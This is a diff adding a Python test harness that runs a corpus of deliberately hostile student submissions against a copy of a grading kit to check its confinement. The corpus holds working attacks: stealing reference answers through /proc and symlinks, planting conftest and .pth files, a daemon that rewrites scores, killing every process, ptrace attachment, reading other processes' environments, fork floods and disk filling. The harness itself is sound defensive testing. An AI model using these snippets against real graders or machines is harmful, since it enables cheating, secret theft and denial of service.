@@ -1,0 +1,500 @@
+"""The attack corpus: submissions written by a dishonest student, and what each must achieve nothing at.
+
+Every attack is a ``lookup.py`` (or ``gpt2_heads.py``) that implements nothing
+itself: any point it earns is stolen. It is graded the way an instructor
+grades, by ``softlookup check --json`` in a process of its own, against a
+disposable copy of the kit (so that a protection that fails cannot damage the
+real one). :func:`run_attack` returns what happened; ``tests/test_attacks.py``
+holds every attack to its expected outcome, and ``python tests/attacks.py
+KIT_COPY_PARENT`` prints the table quoted in the README.
+
+Each attack's code gets ``KIT`` (the kit copy's folder), ``NEIGHBOUR`` (the pid
+of an unrelated process), ``PORT`` (a TCP port listening on 127.0.0.1) and
+``RESULTS`` (the results file the judge writes) as plain constants, as a
+student who read the kit's source could guess them.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+
+KIT_PARTS = ("grader", "solutions", "assignments", "tests")
+SECRET = "hunter2-do-not-leak"
+TIME_LIMIT = 2  # seconds per call: attacks that hang are bounded by it
+BOUND = 90  # seconds a whole grading may take, however hostile the submission
+
+# Stealing the reference: each route ends in a module object, or raises saying why it could not.
+STEAL = '''
+import importlib.util, os, sys
+
+def _load(path):
+    spec = importlib.util.spec_from_file_location("stolen", path)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+{route}
+
+try:
+    _ref, _why = _steal(), ""
+except BaseException as error:
+    _ref, _why = None, f"{{type(error).__name__}}: {{error}}"
+
+
+def _use(name, *args):
+    if _ref is None:
+        raise RuntimeError("blocked: " + _why)
+    return getattr(_ref, name)(*args)
+
+
+def exact_lookup(query, keys, values):
+    return _use("exact_lookup", query, keys, values)
+
+
+def nearest_lookup(query, keys, values):
+    return _use("nearest_lookup", query, keys, values)
+
+
+def soft_lookup(query, keys, values, sharpness=1.0):
+    return _use("soft_lookup", query, keys, values, sharpness)
+'''
+
+# Doing something nasty whenever a function is called; the functions then return nothing useful.
+ON_CALL = '''
+import os, signal, socket, subprocess, sys, time
+
+def _attack():
+{body}
+
+def _after_the_attack():
+    returned = _attack()
+    if returned is None:
+        raise RuntimeError("nothing to show for it")
+    return returned
+
+def exact_lookup(query, keys, values):
+    return _after_the_attack()
+
+def nearest_lookup(query, keys, values):
+    return _after_the_attack()
+
+def soft_lookup(query, keys, values, sharpness=1.0):
+    return _after_the_attack()
+'''
+
+
+def _indent(code: str) -> str:
+    return "\n".join("    " + line for line in code.strip().splitlines())
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    kind: str  # the issue's class: read, plant, outlive, change, stall
+    code: str  # the module's source, with KIT, NEIGHBOUR, PORT and RESULTS defined above it
+    module: str = "lookup"
+    links: dict = field(default_factory=dict)  # file name in the submission -> path inside the kit copy
+    settle: float = 0.3  # seconds to wait after the judge exits before looking (for a surviving daemon)
+    harmful: bool = False  # would do real damage to a machine where it succeeds (kill everything, fill the disk)
+
+    def source(self, kit: Path, neighbour: int, port: int, results: Path) -> str:
+        header = f"KIT = {str(kit)!r}\nNEIGHBOUR = {neighbour}\nPORT = {port}\nRESULTS = {str(results)!r}\n"
+        return header + self.code
+
+
+def steal(name: str, route: str, **extra) -> Attack:
+    return Attack(name, "read", STEAL.format(route=route.strip()), **extra)
+
+
+def on_call(name: str, kind: str, body: str, **extra) -> Attack:
+    return Attack(name, kind, ON_CALL.format(body=_indent(body)), **extra)
+
+
+ATTACKS = [
+    # 1. Read the answer -------------------------------------------------------------------
+    steal("reference by its path", '''
+def _steal():
+    return _load(os.path.join(KIT, "solutions", "lookup.py"))
+'''),
+    steal("reference beside the grader package", '''
+def _steal():
+    import grader
+    return _load(os.path.join(os.path.dirname(grader.__path__[0]), "solutions", "lookup.py"))
+'''),
+    steal("reference through the judge's folders in /proc", '''
+def _steal():
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit():
+            continue
+        places = []
+        try:
+            places.append(os.readlink(f"/proc/{pid}/cwd"))
+            places += open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\0")
+        except OSError:
+            continue
+        for place in places:
+            while place and place != "/":
+                candidate = os.path.join(place, "solutions", "lookup.py")
+                if os.path.isfile(candidate):
+                    return _load(candidate)
+                place = os.path.dirname(place)
+    raise FileNotFoundError("no solutions found through /proc")
+'''),
+    steal("reference through a link in the submission", '''
+def _steal():
+    return _load(os.path.join(os.path.dirname(__file__), "answers.py"))
+''', links={"answers.py": "solutions/lookup.py"}),
+    steal("right answers in the kit's own tests", '''
+def _steal():
+    import ast, types
+    import numpy as np
+    tree = ast.parse(open(os.path.join(KIT, "tests", "test_kit.py")).read())
+    answers = next(node.value for node in tree.body if isinstance(node, ast.Assign)
+                   and getattr(node.targets[0], "id", "") == "OTHER_RIGHT_ANSWERS")
+    code = next(ast.literal_eval(variant)["lookup"] for variant in answers.values
+                if "lookup" in ast.literal_eval(variant))
+    namespace = {"np": np, "softmax": lambda x, axis=-1: np.exp(x) / np.exp(x).sum(axis, keepdims=True)}
+    exec(code, namespace)
+    return types.SimpleNamespace(**namespace)
+'''),
+    Attack("ground truth loaded in the worker", "read", '''
+import numpy as np
+
+def _truth():
+    from grader import gpt2
+    return gpt2
+
+def head_pattern(model, tokenizer, text, layer, head):
+    tokens, attentions = _truth().attention_patterns(model, tokenizer, text)
+    return tokens, attentions[layer, head]
+
+def layer_average(model, tokenizer, text, layer):
+    tokens, attentions = _truth().attention_patterns(model, tokenizer, text)
+    return tokens, attentions[layer].mean(axis=0)
+
+def attention_share(tokens, pattern, from_token, to_token):
+    raise NotImplementedError
+
+def recompute_head_pattern(model, input_ids, layer, head):
+    raise NotImplementedError
+''', module="gpt2_heads"),
+    Attack("attention weights read back for a recompute", "read", '''
+import torch
+
+def head_pattern(model, tokenizer, text, layer, head):
+    raise NotImplementedError
+
+def layer_average(model, tokenizer, text, layer):
+    raise NotImplementedError
+
+def attention_share(tokens, pattern, from_token, to_token):
+    raise NotImplementedError
+
+def recompute_head_pattern(model, input_ids, layer, head):
+    ids = torch.tensor([list(input_ids)])
+    with torch.no_grad():
+        return model(ids, output_attentions=True).attentions[layer][0, head].numpy()
+''', module="gpt2_heads"),
+    # 2. Plant code where the judge imports from --------------------------------------------
+    on_call("conftest.py beside the checks", "plant", '''
+evil = "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport(item, call):\\n" \\
+       "    outcome = yield\\n    outcome.get_result().outcome = 'passed'\\n"
+for folder in ("grader/checks/public", "grader/checks", "grader", ""):
+    try:
+        open(os.path.join(KIT, folder, "conftest.py"), "w").write(evil)
+    except OSError:
+        pass
+'''),
+    on_call("the judge's own modules rewritten", "plant", '''
+for name in ("judge.py", "results.py", "plugin.py"):
+    try:
+        open(os.path.join(KIT, "grader", name), "a").write("\\nraise SystemExit(0)\\n")
+    except OSError:
+        pass
+'''),
+    on_call("sitecustomize and .pth files in site-packages", "plant", '''
+import site, sysconfig
+for folder in {*site.getsitepackages(), sysconfig.get_paths()["purelib"]}:
+    for name, text in (("sitecustomize.py", "import os\\n"), ("zz-softlookup-attack.pth", "import os\\n")):
+        try:
+            open(os.path.join(folder, name), "w").write(text)
+        except OSError:
+            pass
+'''),
+    # 3. Outlive the worker, or strike the judge ----------------------------------------------
+    on_call("daemon that rewrites the results", "outlive", '''
+try:
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            for _ in range(600):  # wait for the judge to write its results, then replace them
+                time.sleep(0.1)
+                if os.path.exists(RESULTS):
+                    time.sleep(0.5)
+                    open(RESULTS, "w").write('{"score": 999, "max_score": 22, "tests": []}')
+                    break
+        os._exit(0)
+except OSError:
+    pass
+''', settle=3.0),
+    on_call("SIGKILL to every process it can name", "outlive", '''
+import itertools
+for pid in itertools.chain([NEIGHBOUR, os.getppid(), -1], range(2, 70_000)):
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+''', harmful=True),
+    on_call("the judge's memory through /proc", "outlive", '''
+for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
+    try:
+        open(f"/proc/{pid}/mem", "r+b").close()
+    except (OSError, ValueError):
+        pass
+import ctypes
+libc = ctypes.CDLL(None)
+for pid in (NEIGHBOUR, os.getppid()):
+    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
+        libc.ptrace(17, pid, 0, 0)  # detach again: proving it could is enough
+'''),
+    on_call("200 processes", "outlive", '''
+for _ in range(200):
+    try:
+        if os.fork() == 0:
+            time.sleep(30)
+            os._exit(0)
+    except OSError:
+        break
+'''),
+    # 4. Change how later submissions are graded -------------------------------------------
+    on_call("reference and hidden checks rewritten", "change", '''
+for name in ("solutions/lookup.py", "grader/checks/hidden/test_lookup.py", "grader/registry.py"):
+    try:
+        open(os.path.join(KIT, name), "w").write("raise SystemExit(0)\\n")
+    except OSError:
+        pass
+'''),
+    # 5. Stall or bloat the judge ----------------------------------------------------------------
+    on_call("half a message, then silence", "stall", '''
+import gc
+for conn in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
+    try:
+        conn.sendall((50 * 2**20).to_bytes(4, "big") + b"{")
+        conn.sendall((50).to_bytes(4, "big") + b"[")
+    except OSError:
+        continue
+time.sleep(600)
+'''),
+    on_call("a million small containers", "stall", '''
+return [[{"a": [None]}] for _ in range(1_000_000)]
+'''),
+    Attack("a codec patched to stall", "stall", '''
+import time
+import grader.codec
+grader.codec.from_plain = lambda *args, **kwargs: time.sleep(600)
+grader.codec.to_plain = lambda *args, **kwargs: time.sleep(600)
+
+def exact_lookup(query, keys, values):
+    return None
+
+def nearest_lookup(query, keys, values):
+    return 0.0
+
+def soft_lookup(query, keys, values, sharpness=1.0):
+    return 0.0, [0.25] * 4
+'''),
+    on_call("the judge's environment in an error", "stall", '''
+leaked = os.environ.get("SOFTLOOKUP_ATTACK_SECRET", "")
+for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
+    try:
+        leaked += open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
+    except OSError:
+        pass
+raise RuntimeError("\\x1b[2J\\x1b[31m" + leaked + "A" * 5_000_000)
+'''),
+    on_call("a connection to 127.0.0.1", "stall", '''
+for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
+    try:
+        with socket.socket(family, kind) as connection:
+            connection.settimeout(1)
+            connection.connect(("127.0.0.1", PORT))
+            connection.sendall(b"stolen")
+    except OSError:
+        pass
+'''),
+    on_call("the disk filled", "stall", '''
+block = b"x" * 2**20
+for number in range(100_000):
+    try:
+        with open(f"fill-{number}", "wb") as handle:
+            for _ in range(63):
+                handle.write(block)
+    except OSError:
+        break
+for folder in ("/tmp", "/var/tmp", os.path.expanduser("~")):
+    try:
+        open(os.path.join(folder, "softlookup-attack-fill"), "wb").write(block)
+    except OSError:
+        pass
+''', harmful=True),
+]
+
+
+# -- running one ---------------------------------------------------------------------------------
+
+
+@dataclass
+class Outcome:
+    attack: str
+    seconds: float
+    exit_code: int | None  # None: the judge did not finish within BOUND
+    score: float | None  # None: no results file, or not JSON
+    results_intact: bool  # the results file still says what the judge wrote, 3 s later
+    kit_intact: bool
+    site_packages_intact: bool
+    neighbour_alive: bool
+    leftovers: list[str]  # processes or files a run left behind
+    connections: int
+    leaked: bool
+    output: str
+
+
+def kit_copy(parent: Path, source: Path) -> Path:
+    """A disposable copy of the kit: what the attacks may try to read and change."""
+    target = parent / "kit"
+    for part in KIT_PARTS:
+        shutil.copytree(source / part, target / part, ignore=shutil.ignore_patterns("__pycache__"))
+    return target
+
+
+def manifest(folder: Path) -> dict[str, str]:
+    found = {}
+    for path in sorted(folder.rglob("*")):
+        if path.is_file() and "__pycache__" not in path.parts:
+            found[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return found
+
+
+def _site_packages() -> set[str]:
+    import site
+
+    return {f"{folder}/{name}" for folder in site.getsitepackages() if os.path.isdir(folder)
+            for name in os.listdir(folder)}
+
+
+def _listener() -> tuple[socket.socket, list[bytes]]:
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    received: list[bytes] = []
+
+    def accept():
+        while True:
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                return
+            received.append(connection.recv(100))
+            connection.close()
+
+    threading.Thread(target=accept, daemon=True).start()
+    return server, received
+
+
+def _processes_under(folder: Path) -> list[str]:
+    """Processes whose working folder lies in ``folder`` (every worker starts in its scratch folder there)."""
+    found = []
+    for pid in os.listdir("/proc"):
+        try:
+            if pid.isdigit() and os.readlink(f"/proc/{pid}/cwd").startswith(str(folder)):
+                found.append(f"process {pid}")
+        except OSError:
+            pass
+    return found
+
+
+def run_attack(attack: Attack, kit: Path, work: Path, python: str = sys.executable) -> Outcome:
+    """Grade ``attack`` against the kit copy ``kit`` in a fresh judge process, and inspect everything after."""
+    submission, temporary, results = work / "submission", work / "tmp", work / "results.json"
+    shutil.copytree(kit / "assignments", submission)
+    temporary.mkdir()
+    neighbour = subprocess.Popen([python, "-c", "import time; time.sleep(600)"])
+    server, received = _listener()
+    (submission / f"{attack.module}.py").write_text(
+        attack.source(kit, neighbour.pid, server.getsockname()[1], results))
+    for name, target in attack.links.items():
+        (submission / name).symlink_to(kit / target)
+    before, site_before = manifest(kit), _site_packages()
+    environment = {**os.environ, "PYTHONPATH": str(kit), "TMPDIR": str(temporary), "HF_HUB_OFFLINE": "1",
+                   "SOFTLOOKUP_ATTACK_SECRET": SECRET, "COLUMNS": "200"}
+    command = [python, "-m", "grader.cli", "check", str(submission), "--exercise", attack.module, "--json",
+               str(results), "--time-limit", str(TIME_LIMIT), "--solutions", str(kit / "solutions")]
+    started = time.monotonic()
+    try:
+        done = subprocess.run(command, capture_output=True, text=True, env=environment, timeout=BOUND, cwd=work)
+        exit_code, output = done.returncode, done.stdout + done.stderr
+    except subprocess.TimeoutExpired as expired:
+        exit_code, output = None, f"{expired.stdout or ''}{expired.stderr or ''}"
+    seconds = time.monotonic() - started
+    written = results.read_text() if results.exists() else None
+    time.sleep(attack.settle)  # long enough for a daemon that survived to strike
+    try:
+        score = float(json.loads(written)["score"]) if written else None
+    except (ValueError, KeyError, TypeError):
+        score = None
+    intact = written is not None and results.exists() and results.read_text() == written
+    leftovers = _processes_under(temporary) + [str(path) for path in temporary.iterdir()]
+    leftovers += [path for path in ("/tmp/softlookup-attack-fill", "/var/tmp/softlookup-attack-fill")
+                  if os.path.exists(path)]
+    alive = neighbour.poll() is None
+    neighbour.kill()
+    neighbour.wait()
+    server.close()
+    everything = output + (written or "")
+    return Outcome(attack.name, seconds, exit_code, score, intact, manifest(kit) == before,
+                   _site_packages() == site_before, alive, leftovers, len(received), SECRET in everything,
+                   output)
+
+
+def main():
+    """Run the corpus against the kit found on this Python's path and print a table.
+
+    ``--harmless`` leaves out the attacks that would do real damage where they
+    succeed: run it that way against a kit without confinement.
+    """
+    import grader
+
+    source = Path(grader.__path__[0]).parent
+    print(f"{'attack':<48} {'class':<8} {'score':>6} {'secs':>6}  problems")
+    for attack in ATTACKS:
+        if attack.harmful and "--harmless" in sys.argv:
+            continue
+        with tempfile.TemporaryDirectory() as folder:
+            work = Path(folder)
+            outcome = run_attack(attack, kit_copy(work, source), work)
+            problems = [name for name, bad in [
+                ("judge did not finish", outcome.exit_code is None),
+                ("no results", outcome.score is None), ("results rewritten", not outcome.results_intact),
+                ("kit changed", not outcome.kit_intact), ("site-packages changed", not outcome.site_packages_intact),
+                ("neighbour killed", not outcome.neighbour_alive), ("left behind", bool(outcome.leftovers)),
+                ("connected", outcome.connections > 0), ("secret leaked", outcome.leaked)] if bad]
+            score = "-" if outcome.score is None else f"{outcome.score:g}"
+            print(f"{attack.name:<48} {attack.kind:<8} {score:>6} {outcome.seconds:>6.1f}  {', '.join(problems)}")
+            for path in ("/tmp/softlookup-attack-fill", "/var/tmp/softlookup-attack-fill"):
+                if os.path.exists(path):
+                    os.unlink(path)
+
+
+if __name__ == "__main__":
+    main()
